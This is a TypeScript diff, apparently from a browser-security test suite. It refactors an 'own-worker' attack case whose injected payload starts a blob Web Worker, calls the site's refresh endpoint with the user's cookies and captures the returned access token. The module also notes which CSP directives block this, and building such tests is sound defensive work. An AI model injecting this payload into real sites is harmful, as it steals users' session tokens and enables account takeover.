@@ -3,6 +3,20 @@
 import type { Attack } from '../attack.ts'
 import { press } from '../scene.ts'
 import { judgeToken } from './loot.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = async (kit) => {
+  const code = `fetch('${location.origin}/api/auth/refresh', { method: 'POST', credentials: 'include',
+        headers: { 'content-type': 'application/json' }, body: '{}' })
+        .then((answer) => answer.json()).then((body) => postMessage(body.accessToken), () => postMessage(''))`
+  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
+  const answered = new Promise<unknown>((resolve) => {
+    worker.addEventListener('message', ({ data }) => resolve(data))
+    worker.addEventListener('error', () => resolve(''))
+    setTimeout(() => resolve(''), 3000)
+  })
+  kit.take('token', await answered)
+}
 
 export const ownWorker: Attack = {
   name: 'own-worker',
@@ -12,23 +26,13 @@ export const ownWorker: Attack = {
   why: 'A worker belongs to the origin like the page: the browser adds the same cookie to its requests.',
   stops:
     'A policy that allows no blob worker (worker-src) and no refresh from the page (connect-src), or an answer that needs a key.',
+  script: { when: 'late', payload: script },
   control: 'tutorial',
   succeedsOn: ['tutorial', 'hallpass'],
   inapplicable: ({ refreshCookie }) => (refreshCookie === undefined ? 'there is no refresh endpoint' : undefined),
   async run(scene) {
     const page = await scene.signIn()
-    await scene.injectLate(async (kit) => {
-      const code = `fetch('${location.origin}/api/auth/refresh', { method: 'POST', credentials: 'include',
-        headers: { 'content-type': 'application/json' }, body: '{}' })
-        .then((answer) => answer.json()).then((body) => postMessage(body.accessToken), () => postMessage(''))`
-      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
-      const answered = new Promise<unknown>((resolve) => {
-        worker.addEventListener('message', ({ data }) => resolve(data))
-        worker.addEventListener('error', () => resolve(''))
-        setTimeout(() => resolve(''), 3000)
-      })
-      kit.take('token', await answered)
-    })
+    await scene.injectLate(script)
     await press(page, '#read-notes', /read|error/)
     return judgeToken(scene, page, await scene.thief.report(5_000), 'its worker was given no token')
   },
